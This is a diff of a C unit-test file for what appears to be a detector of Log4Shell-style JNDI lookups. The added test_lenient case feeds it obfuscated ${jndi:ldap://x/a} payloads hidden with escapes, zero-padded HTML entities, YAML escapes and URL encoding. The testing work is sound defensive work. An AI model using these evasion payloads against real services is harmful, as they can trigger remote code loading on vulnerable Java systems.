@@ -411,10 +411,6 @@ static void test_said(void **state)
         {XML, "<a>$<b/>{jndi:ldap://x/a}</a>", "lookup reaches body ldap://x/a"},
         {XML, "<a><![CDATA[<!--]]>$<![CDATA[{jndi:ldap://x/a}]]></a>",
          "lookup reaches body ldap://x/a"},
-        {XML, "<a>&#x0000000000000000000024;&#00000000000000000000000000123;jndi:ldap://x/a}</a>",
-         "lookup reaches body ldap://x/a"},
-        {XML, "<a b='&#x0000000000000000000024;{jndi:ldap://x/a}'/>",
-         "lookup reaches body ldap://x/a"},
         {XML, "<!DOCTYPE a [<!ENTITY j '{jn'>]><a>$&j;di:ldap://x/a}</a>", "limit encoding body"},
         {XML, "<!DOCTYPE a SYSTEM 'b.dtd'><a>$ <b>{x}</b><![CDATA[$]]>{y}</a>", "nothing"},
         {XML, "\x4c\x6f\xa7\x94\x93", "limit charset body"},
@@ -450,6 +446,37 @@ static void test_said(void **state)
             "nothing");
     body_is(&p, XML, "", SLICE_LIT("<a>$<![CDATA[{jndi:ldap://x/a}]]></a>"),
             "lookup reaches body ldap://x/a");
+    probe_done(&p);
+}
+
+/* Spellings that readers are lenient about, in the bytes as they are. */
+#define ZEROS "00000000000000000000000000000000000000000000000000000000000000000000000000000000"
+#define MORE_ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS ZEROS
+static void test_lenient(void **state)
+{
+    static const struct {
+        const char *type, *body, *want;
+    } cases[] = {
+        {"application/json", "{\"a\":\"${\\jn\\di\\:ldap://x/a}\"}",
+         "lookup reaches json:/a ldap://x/a"},
+        {"application/json", "{\"a\":\"$\\\n{j\\\r\nndi:ldap://x/a}\"}",
+         "lookup reaches json:/a ldap://x/a"},
+        {"application/json", "{a:'\\$\\{jndi\\:ldap://x/a\\}'}", "lookup reaches json: ldap://x/a"},
+        {"text/yaml", "\"\\U00000024\\U0000007bjndi:ldap://x/a}\"",
+         "lookup reaches body ldap://x/a"},
+        {"text/html", "&#" ZEROS "36;{jndi:ldap://x/a}", "lookup reaches body ldap://x/a"},
+        {"text/html", "&#x" MORE_ZEROS "24;&#" MORE_ZEROS "123;jndi:ldap://x/a}",
+         "lookup reaches body ldap://x/a"},
+        {FORM, "q=%26%23x" MORE_ZEROS "24%3b{jndi:ldap://x/a}", "lookup reaches form:q ldap://x/a"},
+        {XML, "<a>&#x" ZEROS "24;&#" ZEROS "123;jndi:ldap://x/a}</a>",
+         "lookup reaches xml:a ldap://x/a"},
+        {"text/html", "&#" MORE_ZEROS MORE_ZEROS "37;{jndi:ldap://x/a}", "nothing"},
+    };
+    struct probe p;
+    (void)state;
+    probe_init(&p);
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
+        body_is(&p, cases[i].type, "", slice_str(cases[i].body), cases[i].want);
     probe_done(&p);
 }
 
@@ -792,6 +819,7 @@ int main(void)
         cmocka_unit_test(test_memory_refused),
         cmocka_unit_test(test_excluded),
         cmocka_unit_test(test_said),
+        cmocka_unit_test(test_lenient),
         cmocka_unit_test(test_wide),
         cmocka_unit_test(test_callbacks),
         cmocka_unit_test(test_clients),
